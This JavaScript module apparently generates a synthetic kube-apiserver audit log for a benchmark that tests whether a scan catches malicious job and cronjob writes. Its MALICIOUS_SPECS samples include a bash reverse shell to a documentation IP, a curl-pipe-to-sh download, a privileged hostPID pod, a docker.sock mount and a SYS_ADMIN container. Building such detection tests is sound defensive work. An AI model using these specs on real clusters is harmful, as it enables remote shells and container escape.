// Generates a realistic kube-apiserver audit log (audit.k8s.io/v1 JSON lines) for the audit benchmark.
//
// The mix follows what a busy cluster logs under a common audit policy: mostly lease renewals and reads
// at Metadata level, kubelet status patches, pod creations at RequestResponse level (some of them
// privileged or with hostPath mounts, as node agents are: pods are not jobs, so they must not match),
// job-controller status updates that carry whole Job objects (a subresource, so they must not match
// either), job/cronjob reads, and about 1% job/cronjob writes, a tenth of which are malicious. Benign job
// writes carry the text that makes the grep/rg pipelines noisy (`"privileged":false` beside
// `"readOnlyRootFilesystem":true`, `superlative`, `/system`). The generator knows which requests are
// malicious and returns their audit IDs, so the benchmark can check the scan finds exactly those.
import { createWriteStream } from 'node:fs';
import { once } from 'node:events';
import { random } from './manifest-corpus.mjs';

const NAMESPACES = ['default', 'payments', 'checkout', 'data', 'monitoring', 'ci', 'batch', 'kube-system'];
const NODES = Array.from({ length: 40 }, (_, i) => `ip-10-0-${(i * 7) % 250}-${(i * 13) % 250}.ec2.internal`);
const KUBECTL = 'kubectl/v1.30.1 (linux/amd64) kubernetes/6911225';

export function createGenerator(seed = 1) {
  const next = random(seed);
  const pick = (list) => list[Math.floor(next() * list.length)];
  const hex = (n) => {
    let s = '';
    for (let i = 0; i < n; i++) s += '0123456789abcdef'[Math.floor(next() * 16)];
    return s;
  };
  const uid = () => `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}`;
  let clock = Date.parse('2026-03-02T08:00:00Z');
  const stamp = () => {
    clock += Math.floor(next() * 40);
    return new Date(clock).toISOString().replace('Z', '123Z');
  };

  function event({ level, stage = 'ResponseComplete', uri, verb, user, groups, ip, agent, objectRef, code = 200, request, response, auditID = uid(), decision = 'allow' }) {
    const received = stamp();
    const out = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level,
      auditID,
      stage,
      requestURI: uri,
      verb,
      user: { username: user, groups },
      sourceIPs: [ip],
      userAgent: agent,
      objectRef,
    };
    if (stage !== 'RequestReceived') out.responseStatus = code >= 400 ? { metadata: {}, status: 'Failure', reason: 'Forbidden', code } : { metadata: {}, code };
    if (request !== undefined) out.requestObject = request;
    if (response !== undefined && stage !== 'RequestReceived') out.responseObject = response;
    out.requestReceivedTimestamp = received;
    out.stageTimestamp = stage === 'RequestReceived' ? received : stamp();
    out.annotations = { 'authorization.k8s.io/decision': decision, 'authorization.k8s.io/reason': decision === 'allow' ? 'RBAC: allowed by ClusterRoleBinding "edit"' : '' };
    return JSON.stringify(out);
  }

  function leaseUpdate() {
    const node = pick(NODES);
    const name = next() < 0.7 ? node : pick(['kube-controller-manager', 'kube-scheduler', 'cluster-autoscaler', 'cert-manager-controller']);
    const namespace = next() < 0.7 ? 'kube-node-lease' : 'kube-system';
    return event({
      level: 'Metadata',
      uri: `/apis/coordination.k8s.io/v1/namespaces/${namespace}/leases/${name}?timeout=10s`,
      verb: next() < 0.8 ? 'update' : 'get',
      user: namespace === 'kube-node-lease' ? `system:node:${node}` : `system:${name}`,
      groups: ['system:nodes', 'system:authenticated'],
      ip: `10.0.${Math.floor(next() * 250)}.${Math.floor(next() * 250)}`,
      agent: 'kubelet/v1.30.1 (linux/amd64) kubernetes/6911225',
      objectRef: { resource: 'leases', namespace, name, uid: uid(), apiGroup: 'coordination.k8s.io', apiVersion: 'v1', resourceVersion: String(Math.floor(next() * 1e8)) },
    });
  }

  function read() {
    const resource = pick(['pods', 'configmaps', 'secrets', 'endpoints', 'nodes', 'services', 'events', 'deployments']);
    const namespace = pick(NAMESPACES);
    const list = next() < 0.4;
    return event({
      level: 'Metadata',
      uri: list ? `/api/v1/namespaces/${namespace}/${resource}?limit=500&resourceVersion=0` : `/api/v1/namespaces/${namespace}/${resource}/item-${hex(5)}`,
      verb: list ? pick(['list', 'watch']) : 'get',
      user: pick(['system:serviceaccount:monitoring:prometheus', 'system:kube-scheduler', 'alice@example.com', 'system:serviceaccount:argocd:argocd-application-controller']),
      groups: ['system:authenticated'],
      ip: `10.0.${Math.floor(next() * 250)}.${Math.floor(next() * 250)}`,
      agent: pick([KUBECTL, 'prometheus/2.51.0', 'argocd-application-controller/v2.11.0']),
      objectRef: list ? { resource, namespace, apiVersion: 'v1' } : { resource, namespace, name: `item-${hex(5)}`, apiVersion: 'v1' },
    });
  }

  function podStatusPatch() {
    const namespace = pick(NAMESPACES);
    const name = `web-${hex(10)}-${hex(5)}`;
    const node = pick(NODES);
    return event({
      level: 'Request',
      uri: `/api/v1/namespaces/${namespace}/pods/${name}/status`,
      verb: 'patch',
      user: `system:node:${node}`,
      groups: ['system:nodes', 'system:authenticated'],
      ip: `10.0.${Math.floor(next() * 250)}.${Math.floor(next() * 250)}`,
      agent: 'kubelet/v1.30.1 (linux/amd64) kubernetes/6911225',
      objectRef: { resource: 'pods', namespace, name, apiVersion: 'v1', subresource: 'status' },
      request: { metadata: { uid: uid() }, status: { conditions: [{ type: 'Ready', status: 'True', lastProbeTime: null, lastTransitionTime: stamp() }], containerStatuses: [{ name: 'web', ready: true, restartCount: 0, started: true, image: 'registry.example.com/shop/web:4.2.0', imageID: `registry.example.com/shop/web@sha256:${hex(64)}`, containerID: `containerd://${hex(64)}`, state: { running: { startedAt: stamp() } } }] } },
    });
  }

  /** Node agents run privileged with host mounts: a pod, not a job, so the job rule must stay quiet. */
  function podCreate() {
    const agent = next() < 0.3;
    const namespace = agent ? 'monitoring' : pick(NAMESPACES);
    const pod = {
      kind: 'Pod',
      apiVersion: 'v1',
      metadata: { generateName: agent ? 'node-exporter-' : 'web-7d9f8c-', namespace, labels: { app: agent ? 'node-exporter' : 'web' }, ownerReferences: [{ apiVersion: 'apps/v1', kind: agent ? 'DaemonSet' : 'ReplicaSet', name: agent ? 'node-exporter' : 'web-7d9f8c', uid: uid(), controller: true, blockOwnerDeletion: true }] },
      spec: {
        volumes: agent ? [{ name: 'proc', hostPath: { path: '/proc', type: '' } }, { name: 'sys', hostPath: { path: '/sys', type: '' } }] : [{ name: 'kube-api-access', projected: { sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: 'token' } }] } }],
        containers: [{ name: agent ? 'node-exporter' : 'web', image: agent ? 'quay.io/prometheus/node-exporter:v1.8.1' : 'registry.example.com/shop/web:4.2.0', args: agent ? ['--path.procfs=/host/proc', '--path.sysfs=/host/sys'] : ['--port=8080'], resources: { requests: { cpu: '100m', memory: '128Mi' } }, volumeMounts: agent ? [{ name: 'proc', mountPath: '/host/proc', readOnly: true }, { name: 'sys', mountPath: '/host/sys', readOnly: true }] : [{ name: 'kube-api-access', mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', readOnly: true }], terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', imagePullPolicy: 'IfNotPresent', securityContext: agent ? { privileged: true } : { privileged: false, readOnlyRootFilesystem: true, runAsNonRoot: true } }],
        hostNetwork: agent,
        hostPID: agent,
        restartPolicy: 'Always',
        terminationGracePeriodSeconds: 30,
        dnsPolicy: 'ClusterFirst',
        serviceAccountName: agent ? 'node-exporter' : 'web',
        securityContext: {},
        schedulerName: 'default-scheduler',
        tolerations: [{ key: 'node.kubernetes.io/not-ready', operator: 'Exists', effect: 'NoExecute', tolerationSeconds: 300 }],
      },
      status: {},
    };
    return event({
      level: 'RequestResponse',
      uri: `/api/v1/namespaces/${namespace}/pods`,
      verb: 'create',
      user: agent ? 'system:serviceaccount:kube-system:daemon-set-controller' : 'system:serviceaccount:kube-system:replicaset-controller',
      groups: ['system:serviceaccounts', 'system:authenticated'],
      ip: '10.0.0.10',
      agent: 'kube-controller-manager/v1.30.1 (linux/amd64) kubernetes/6911225/system:serviceaccount:kube-system:replicaset-controller',
      objectRef: { resource: 'pods', namespace, apiVersion: 'v1' },
      code: 201,
      request: pod,
      response: { ...pod, metadata: { ...pod.metadata, name: `${pod.metadata.generateName}${hex(5)}`, uid: uid(), resourceVersion: String(Math.floor(next() * 1e8)) }, status: { phase: 'Pending', qosClass: 'Burstable' } },
    });
  }

  /** A benign job's pod spec, with the words that make substring rules fire. */
  function benignPodSpec() {
    return {
      containers: [{
        name: 'report',
        image: pick(['registry.example.com/acme/superlative-reporter:2.1', 'registry.example.com/data/etl-runner:5.0.3', 'gcr.io/acme-prod/backup-agent:1.14']),
        command: ['/app/run'],
        args: ['--output=/system/reports', '--notify=https://hooks.example.com/curl-compatible'],
        env: [{ name: 'REPORT_DIR', value: '/system/reports' }, { name: 'LOG_FORMAT', value: 'json' }],
        resources: { requests: { cpu: '250m', memory: '256Mi' }, limits: { memory: '512Mi' } },
        securityContext: { privileged: false, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, runAsNonRoot: true, capabilities: { drop: ['ALL'] } },
        terminationMessagePath: '/dev/termination-log',
        terminationMessagePolicy: 'File',
        imagePullPolicy: 'IfNotPresent',
      }],
      restartPolicy: 'OnFailure',
      terminationGracePeriodSeconds: 30,
      dnsPolicy: 'ClusterFirst',
      securityContext: { seccompProfile: { type: 'RuntimeDefault' } },
      schedulerName: 'default-scheduler',
    };
  }

  const MALICIOUS_SPECS = [
    () => ({ containers: [{ name: 'sync', image: 'busybox:1.36', command: ['/bin/sh', '-c'], args: ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] }], restartPolicy: 'OnFailure' }),
    () => ({ containers: [{ name: 'node-debug', image: 'registry.example.com/ops/toolbox:3', securityContext: { privileged: true } }], hostPID: true, restartPolicy: 'Never' }),
    () => ({ containers: [{ name: 'agent', image: 'registry.example.com/ops/agent:1', volumeMounts: [{ name: 'docker', mountPath: '/var/run/docker.sock' }] }], volumes: [{ name: 'docker', hostPath: { path: '/var/run/docker.sock' } }], restartPolicy: 'OnFailure' }),
    () => ({ containers: [{ name: 'fetch', image: 'curlimages/curl:8.7.1', command: ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'] }], hostNetwork: true, restartPolicy: 'Never' }),
    () => ({ containers: [{ name: 'miner', image: 'kalilinux/kali-rolling@sha256:' + hex(64), securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }], restartPolicy: 'Never' }),
  ];

  /** A job/cronjob write; returns the event lines and whether it is malicious. */
  function jobWrite(malicious) {
    const cron = next() < 0.5;
    const resource = cron ? 'cronjobs' : 'jobs';
    const namespace = pick(NAMESPACES);
    const name = `${malicious ? pick(['log-rotate', 'metrics-sync', 'cache-warm']) : pick(['nightly-report', 'etl', 'backup'])}-${hex(4)}`;
    const spec = malicious ? pick(MALICIOUS_SPECS)() : benignPodSpec();
    const template = { metadata: { labels: { app: name } }, spec };
    const object = cron
      ? { kind: 'CronJob', apiVersion: 'batch/v1', metadata: { name, namespace }, spec: { schedule: '*/15 * * * *', concurrencyPolicy: 'Forbid', jobTemplate: { spec: { backoffLimit: 2, template } } } }
      : { kind: 'Job', apiVersion: 'batch/v1', metadata: { name, namespace }, spec: { backoffLimit: 2, template } };
    const user = malicious ? pick(['system:serviceaccount:default:compromised-ci', 'mallory@example.com']) : pick(['alice@example.com', 'system:serviceaccount:argocd:argocd-application-controller']);
    const auditID = uid();
    const ip = `10.0.${Math.floor(next() * 250)}.${Math.floor(next() * 250)}`;
    const verb = next() < 0.8 ? 'create' : 'update';
    const uri = verb === 'create' ? `/apis/batch/v1/namespaces/${namespace}/${resource}` : `/apis/batch/v1/namespaces/${namespace}/${resource}/${name}`;
    const objectRef = { resource, namespace, name, apiGroup: 'batch', apiVersion: 'v1' };
    const base = { level: 'RequestResponse', uri, verb, user, groups: ['system:authenticated'], ip, agent: KUBECTL, objectRef, auditID, request: object };
    // The API server logs the request twice at this level: once received, once completed.
    const lines = [
      event({ ...base, stage: 'RequestReceived' }),
      event({ ...base, code: verb === 'create' ? 201 : 200, response: { ...object, metadata: { ...object.metadata, uid: uid(), resourceVersion: String(Math.floor(next() * 1e8)), generation: 1 } } }),
    ];
    return { lines, auditID, object };
  }

  /** The job controller's status updates carry the whole Job, malicious template included: a subresource, not a write of the spec. */
  function jobStatusUpdate(object) {
    const namespace = object.metadata.namespace;
    const job = object.kind === 'Job' ? object : { kind: 'Job', apiVersion: 'batch/v1', metadata: { name: `${object.metadata.name}-2901${Math.floor(next() * 100)}`, namespace }, spec: object.spec.jobTemplate.spec };
    return event({
      level: 'RequestResponse',
      uri: `/apis/batch/v1/namespaces/${namespace}/jobs/${job.metadata.name}/status`,
      verb: 'update',
      user: 'system:serviceaccount:kube-system:job-controller',
      groups: ['system:serviceaccounts', 'system:authenticated'],
      ip: '10.0.0.10',
      agent: 'kube-controller-manager/v1.30.1 (linux/amd64) kubernetes/6911225/system:serviceaccount:kube-system:job-controller',
      objectRef: { resource: 'jobs', namespace, name: job.metadata.name, apiGroup: 'batch', apiVersion: 'v1', subresource: 'status' },
      request: { ...job, status: { active: 1, startTime: stamp() } },
      response: { ...job, status: { active: 1, startTime: stamp() } },
    });
  }

  function jobRead() {
    const namespace = pick(NAMESPACES);
    return event({
      level: 'Metadata',
      uri: `/apis/batch/v1/namespaces/${namespace}/cronjobs?limit=500`,
      verb: 'list',
      user: 'system:serviceaccount:kube-system:cronjob-controller',
      groups: ['system:serviceaccounts', 'system:authenticated'],
      ip: '10.0.0.10',
      agent: 'kube-controller-manager/v1.30.1 (linux/amd64) kubernetes/6911225/system:serviceaccount:kube-system:cronjob-controller',
      objectRef: { resource: pick(['cronjobs', 'jobs']), namespace, apiGroup: 'batch', apiVersion: 'v1' },
    });
  }

  /**
   * Yields lines until `targetBytes` is reached. `malicious` (a Set) collects the audit IDs of the
   * malicious job writes; `counts` the number of events of each kind.
   */
  function* lines(targetBytes, malicious, counts) {
    let written = 0;
    const emit = (kind, line) => {
      counts[kind] = (counts[kind] ?? 0) + 1;
      written += line.length + 1;
      return line;
    };
    let recentJob;
    while (written < targetBytes) {
      const roll = next();
      if (roll < 0.6) yield emit('lease', leaseUpdate());
      else if (roll < 0.85) yield emit('read', read());
      else if (roll < 0.925) yield emit('podStatus', podStatusPatch());
      else if (roll < 0.97) yield emit('podCreate', podCreate());
      else if (roll < 0.975) yield emit('jobRead', jobRead());
      else if (roll < 0.98) {
        if (recentJob) yield emit('jobStatus', jobStatusUpdate(recentJob));
      } else if (roll < 0.99) {
        const isMalicious = next() < 0.1;
        const write = jobWrite(isMalicious);
        if (isMalicious) malicious.add(write.auditID);
        recentJob = write.object;
        for (const line of write.lines) yield emit(isMalicious ? 'jobWriteMalicious' : 'jobWrite', line);
      } else yield emit('lease', leaseUpdate());
    }
  }

  return { lines };
}

/** Writes the log to `path`; resolves to the malicious audit IDs and per-kind counts. */
export async function writeAuditLog(path, { targetBytes, seed = 1 }) {
  const out = createWriteStream(path, { highWaterMark: 1 << 22 });
  const malicious = new Set();
  const counts = {};
  let batch = [];
  let batchBytes = 0;
  for (const line of createGenerator(seed).lines(targetBytes, malicious, counts)) {
    batch.push(line);
    batchBytes += line.length;
    if (batchBytes > 1 << 22) {
      if (!out.write(batch.join('\n') + '\n')) await once(out, 'drain');
      batch = [];
      batchBytes = 0;
    }
  }
  if (batch.length > 0) out.write(batch.join('\n') + '\n');
  out.end();
  await once(out, 'finish');
  return { malicious: [...malicious].sort(), counts };
}
